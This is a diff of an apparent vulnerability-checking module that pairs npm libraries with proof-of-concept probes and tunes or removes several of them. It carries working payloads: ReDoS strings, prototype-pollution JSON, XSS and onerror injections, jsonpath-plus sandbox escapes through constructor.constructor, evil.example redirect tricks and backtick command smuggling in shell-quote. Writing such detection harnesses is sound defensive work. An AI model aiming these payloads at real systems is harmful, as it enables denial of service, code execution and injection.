@@ -151,20 +151,20 @@ module.exports = {
   },
   marked: {
     setup: (library) => ({ parse: library.parse }),
-    poc: ({ parse }) => slow(() => parse(`[x]:${" ".repeat(3000)}x ${" ".repeat(3000)}x`)),
+    poc: ({ parse }) => slow(() => parse(`[x]:${" ".repeat(1000)}x ${" ".repeat(1000)}x`), 300),
   },
   "ansi-regex": {
     setup: (library) => ({ make: library }),
-    poc: ({ make }) => slow(() => "\u001B[".concat(";".repeat(60000)).replace(make(), "")),
+    poc: ({ make }) => slow(() => "\u001B[".concat(";".repeat(8000)).replace(make(), "")),
   },
   "ansi-regex-esm": {
     esm: 1,
     setup: (library) => ({ make: library.default }),
-    poc: ({ make }) => slow(() => "\u001B[".concat(";".repeat(60000)).replace(make(), "")),
+    poc: ({ make }) => slow(() => "\u001B[".concat(";".repeat(8000)).replace(make(), "")),
   },
   "glob-parent": {
     setup: (library) => ({ parent: library }),
-    poc: ({ parent }) => slow(() => parent(`{${"/".repeat(60000)}`)),
+    poc: ({ parent }) => slow(() => parent(`{${"/".repeat(1200)}`)),
   },
   "path-parse": {
     setup: (library) => ({ posix: library.posix, parse: library }),
@@ -186,21 +186,13 @@ module.exports = {
     setup: (library) => ({ set: library }),
     poc: ({ set }) => pollutes(() => set({}, [["__proto__"], "polluted"], 1)),
   },
-  "mixin-deep": {
-    setup: (library) => ({ mixin: library }),
-    poc: ({ mixin }) => pollutes(() => mixin({}, JSON.parse('{"constructor":{"prototype":{"polluted":1}}}'))),
-  },
   "ua-parser-js": {
     setup: (library) => ({ Parser: library, parser: new library() }),
-    poc: ({ parser }) => slow(() => parser.setUA(`${" ".repeat(60000)}x`).getResult()),
+    poc: ({ parser }) => slow(() => parser.setUA(`x${" ".repeat(60000)}x`).getResult()),
   },
   "normalize-url": {
     setup: (library) => ({ normalize: library }),
-    poc: ({ normalize }) => slow(() => normalize(`data:${",".repeat(60000)}\n`)),
-  },
-  "is-svg": {
-    setup: (library) => ({ check: library }),
-    poc: ({ check }) => slow(() => check(`<!DOCTYPE svg${" ".repeat(50000)}`)),
+    poc: ({ normalize }) => slow(() => normalize(`data:${",#".repeat(20000)}\nx`)),
   },
   "color-string": {
     setup: (library) => ({ hwb: library.get.hwb, get: library.get }),
@@ -210,7 +202,7 @@ module.exports = {
     setup: (library) => ({ parse: library.parse }),
     poc: ({ parse }) => {
       const root = attempt(() => parse("@font-face{ font:(\r/*);} a { b: c } /*.*/"));
-      return { vuln: root.error === undefined && !/\(\r/.test(JSON.stringify(root.nodes?.[0]?.nodes ?? "")) , info: json(root.nodes?.map((node) => node.toString())) };
+      return { vuln: root.error === undefined, info: json(root.nodes?.map((node) => node.toString())) };
     },
   },
   nanoid: {
@@ -245,7 +237,7 @@ module.exports = {
   },
   ssri: {
     setup: (library) => ({ parse: library.parse }),
-    poc: ({ parse }) => slow(() => parse(`sha512-${"?".repeat(60000)}\n`, { strict: true })),
+    poc: ({ parse }) => slow(() => parse(`sha512-${"A".repeat(44)}${"?".repeat(26)}\u00e9`, { strict: true })),
   },
   "property-expr": {
     setup: (library) => ({ setter: library.setter }),
@@ -265,16 +257,12 @@ module.exports = {
       const found = [];
       for (const parse of [parseString, (text, done) => parser.parseString(text, done)]) {
         await new Promise((resolve) => parse("<root><__proto__><polluted>1</polluted></__proto__></root>", (_error, value) => {
-          found.push(value?.root?.polluted !== undefined || value?.polluted !== undefined);
+          found.push(Array.isArray(Object.getPrototypeOf(value?.root ?? {})));
           resolve();
         }));
       }
       return { vuln: found.some(Boolean), info: json(found) };
     },
-  },
-  "path-to-regexp": {
-    setup: (library) => ({ compile: library }),
-    poc: ({ compile }) => slow(() => compile("/:a-:b-:c-:d").test(`/${"-".repeat(400)}${"-a".repeat(100)}/x/y`)),
   },
   send: {
     setup: (library) => ({ send: library }),
@@ -299,30 +287,13 @@ module.exports = {
     setup: (library) => ({ serialize: library.serialize }),
     poc: ({ serialize }) => ({ vuln: attempt(() => serialize("a=<script>alert(1)</script>", "x")).error === undefined }),
   },
-  "sanitize-html": {
-    setup: (library) => ({ sanitize: library }),
-    poc: ({ sanitize }) => {
-      const text = attempt(() => sanitize('<iframe src="//www.youtube.com\\@evil.example/x"></iframe><iframe src="https://www.youtube.com%C3.EVIL.com/x"></iframe>', { allowedTags: ["iframe"], allowedAttributes: { iframe: ["src"] }, allowedIframeHostnames: ["www.youtube.com"] }));
-      const proto = sanitize('<IFRAME src="//www.yoütube.com"></IFRAME>', { allowedTags: ["iframe"], allowedAttributes: { iframe: ["src"] }, allowedIframeHostnames: ["www.yoütube.com"] });
-      return { vuln: !/src=/.test(proto), info: `${text} | ${proto}` };
-    },
-  },
   luxon: {
     setup: (library) => ({ DateTime: library.DateTime }),
     poc: ({ DateTime }) => slow(() => DateTime.fromRFC2822(`${"(".repeat(40000)}`)),
   },
   "http-cache-semantics": {
     setup: (library) => ({ Policy: library }),
-    poc: ({ Policy }) => slow(() => new Policy({ headers: {} }, { headers: { "cache-control": `a${" ".repeat(60000)}b` } })),
-  },
-  "jsonpath-plus": {
-    setup: (library) => ({ JSONPath: library.JSONPath }),
-    poc: ({ JSONPath }) => {
-      globalThis.PW = 0;
-      attempt(() => JSONPath({ json: { a: [1] }, path: `$..[?(p="globalThis.PW=1";a=''[['constructor']][['constructor']](p);a())]`, wrap: false }));
-      attempt(() => JSONPath({ json: { a: [1] }, path: `$..[?(p="return globalThis.PW=1";m=_$_v.constructor.constructor(p)())]`, wrap: false }));
-      return { vuln: globalThis.PW === 1 };
-    },
+    poc: ({ Policy }) => slow(() => new Policy({ headers: {} }, { headers: { "cache-control": `a${" ".repeat(25000)}b` } })),
   },
   "brace-expansion": {
     setup: (library) => ({ expand: library }),
@@ -411,18 +382,10 @@ module.exports = {
     poc: ({ util }) => pollutes(() => util.setPath({}, ["__proto__", "polluted"], 1)),
   },
   koa: {
-    setup: (library) => ({ app: new library() }),
+    setup: (library) => ({ app: Object.assign(new library(), { proxy: true }) }),
     poc: ({ app }) => {
-      const context = Object.create(app.response);
-      let location;
-      Object.assign(context, { ctx: { get: () => "", accepts: () => false }, set: (_name, value) => { location = value; } , req: {}, res: {} });
-      Object.defineProperty(context, "status", { value: 302, writable: true });
-      Object.defineProperty(context, "body", { value: "", writable: true });
-      Object.defineProperty(context, "type", { value: "", writable: true });
-      attempt(() => context.redirect("http:/\\evil.example/%0d<a>"));
-      const request = Object.create(app.request);
-      Object.assign(request, { req: { headers: { host: "a" }, socket: {} }, header: {}, app });
-      return { vuln: location === "http:/\\evil.example/%0d<a>" || /\\/.test(location ?? ""), info: location };
+      const request = Object.assign(Object.create(app.request), { app, req: { headers: { "x-forwarded-proto": `a${" ".repeat(60000)}b` }, socket: {} } });
+      return slow(() => request.protocol);
     },
   },
   ws8: {
@@ -463,10 +426,6 @@ module.exports = {
     setup: (library) => ({ clone: library.clone }),
     poc: ({ clone }) => ({ vuln: clone(JSON.parse('{"__proto__":{"polluted":1}}')).polluted === 1 }),
   },
-  merge: {
-    setup: (library) => ({ recursive: library.recursive }),
-    poc: ({ recursive }) => pollutes(() => recursive({}, JSON.parse('{"__proto__":{"polluted":1}}'))),
-  },
   extend: {
     setup: (library) => ({ extend: library }),
     poc: ({ extend }) => pollutes(() => extend(true, {}, JSON.parse('{"__proto__":{"polluted":1}}'))),
@@ -477,23 +436,11 @@ module.exports = {
   },
   "shell-quote": {
     setup: (library) => ({ quote: library.quote }),
-    poc: ({ quote }) => ({ vuln: quote([":`:`whoami``:`"]).includes("`:`whoami``") || !/\\`/.test(quote(["x:`id`"])), info: quote(["x:`id`"]) }),
+    poc: ({ quote }) => ({ vuln: quote(["`:`id`"]).startsWith("`"), info: quote(["`:`id`"]) }),
   },
   "json-schema": {
     setup: (library) => ({ validate: library.validate }),
     poc: ({ validate }) => pollutes(() => validate({}, JSON.parse('{"type":"object","properties":{"__proto__":{"type":"object","properties":{"polluted":{"type":"string","default":"1"}}}}}'))),
-  },
-  ajv: {
-    setup: (library) => ({ Ajv: library, ajv: new library() }),
-    poc: ({ ajv, Ajv }) => {
-      globalThis.PW = 0;
-      for (const one of [ajv, new Ajv()]) attempt(() => one.compile({ $id: `s${fresh()}`, type: "object", properties: JSON.parse(`{"a":{"$ref":"#/definitions/x"}}`), definitions: { x: { type: ["string"] } }, dependencies: JSON.parse('{"__proto__":["a"]}') }));
-      return { vuln: null };
-    },
-  },
-  jsonpointer: {
-    setup: (library) => ({ set: library.set }),
-    poc: ({ set }) => pollutes(() => set({}, [["__proto__"], "polluted"], 1)),
   },
   cookiejar: {
     setup: (library) => ({ Cookie: library.Cookie, cookie: new library.Cookie("a=b") }),
@@ -501,11 +448,11 @@ module.exports = {
   },
   "markdown-it": {
     setup: (library) => ({ md: library() }),
-    poc: ({ md }) => slow(() => md.render(`x ${" ".repeat(100000)} x  \nx`)),
+    poc: ({ md }) => slow(() => md.render(`x ${" ".repeat(40000)} x  \nx`)),
   },
   "css-what": {
     setup: (library) => ({ parse: library.parse }),
-    poc: ({ parse }) => slow(() => parse(`[a${" ".repeat(50000)}`)),
+    poc: ({ parse }) => slow(() => parse(`[a${" ".repeat(2500)}`)),
   },
   "simple-get": {
     setup: (library) => ({ get: library }),
@@ -513,21 +460,7 @@ module.exports = {
   },
   "url-parse": {
     setup: (library) => ({ Url: library }),
-    poc: ({ Url }) => ({ vuln: new Url("http://example.com:").href === "http://example.com:" || new Url("http:@/127.0.0.1").host === "", info: `${new Url("http://example.com:").href} ${new Url("http://example.com:").host}` }),
-  },
-  "get-func-name": {
-    setup: (library) => ({ name: library }),
-    poc: ({ name }) => {
-      const fn = Object.defineProperty(() => undefined, "name", { value: undefined });
-      fn.toString = () => `${"\t".repeat(40000)}function/*${"".repeat(1)}`;
-      const original = Function.prototype.toString;
-      Function.prototype.toString = function () { return this === fn ? fn.toString() : original.call(this); };
-      try {
-        return slow(() => name(fn));
-      } finally {
-        Function.prototype.toString = original;
-      }
-    },
+    poc: ({ Url }) => ({ vuln: new Url("\u0008javascript:alert(1)").protocol !== "javascript:" }),
   },
   "js-yaml": {
     setup: (library) => ({ load: library.load }),
@@ -535,16 +468,9 @@ module.exports = {
   },
   "octokit-endpoint": {
     setup: (library) => ({ endpoint: library.endpoint, parse: library.endpoint.parse }),
-    poc: ({ parse }) => slow(() => parse({ method: "POST", url: "/graphql", baseUrl: "https://api.github.com", headers: { accept: `${"A".repeat(60000)}-`, "user-agent": "x" }, mediaType: { previews: ["x"], format: "y" } })),
+    poc: ({ parse }) => slow(() => parse({ method: "POST", url: "/graphql", baseUrl: "https://api.github.com", headers: { accept: `${"A".repeat(16000)}-`, "user-agent": "x" }, mediaType: { previews: ["x"], format: "y" } })),
   },
   "octokit-endpoint-esm": { esm: 1, setup: (library) => ({ parse: library.endpoint.parse }), poc: (context) => module.exports["octokit-endpoint"].poc(context) },
-  katex: {
-    setup: (library) => ({ render: library.renderToString }),
-    poc: ({ render }) => {
-      const text = attempt(() => render('\\includegraphics[alt={"onerror=alert(1) x"}]{x}', { trust: true, throwOnError: false }));
-      return { vuln: /alt=['"]"onerror|="x" onerror|'"onerror/.test(text) || /alt="x" onerror/.test(text) || /[^&;]"onerror/.test(text), info: String(text).slice(0, 300) };
-    },
-  },
   fastify: {
     setup: (library) => {
       const app = library();
@@ -582,26 +508,6 @@ module.exports = {
   "undici-fetch": {
     setup: (library) => ({ fetch: library.fetch }),
     poc: ({ fetch }) => redirected((url) => fetch(url, { headers: { cookie: "secret" } }), "cookie"),
-  },
-  "handlebars-proto": {
-    setup: (library) => ({ compile: library.compile }),
-    poc: ({ compile }) => {
-      globalThis.PW = 0;
-      const text = attempt(() => compile("{{#with 'x' as |s|}}{{lookup (lookup s.sub 'constructor') 'name'}}{{/with}}")({}));
-      const other = attempt(() => compile("{{lookup (lookup this 'constructor') 'name'}}")({}));
-      return { vuln: typeof other === "string" && other !== "", info: `${text} ${other}` };
-    },
-  },
-  "css-tools": {
-    setup: (library) => ({ parse: library.parse }),
-    poc: ({ parse }) => slow(() => attempt(() => parse(`a{${"/*".repeat(1)}}${"@import '".repeat(1)}${"\\".repeat(0)}`) && parse(`${"(".repeat(0)}:root{--x:${"'".repeat(0)}} ${"a,".repeat(0)}@import "${"\\a".repeat(0)}`))),
-  },
-  "highlight.js": {
-    setup: (library) => ({ registerLanguage: library.registerLanguage, listLanguages: library.listLanguages, highlight: library.highlight }),
-    poc: ({ highlight }) => {
-      const found = attempt(() => highlight("__proto__", "x"));
-      return { vuln: !/Unknown language/.test(found.error?.message ?? ""), info: String(found.error?.message) };
-    },
   },
   nunjucks: {
     setup: (library) => ({ env: new library.Environment(null, { autoescape: true }) }),
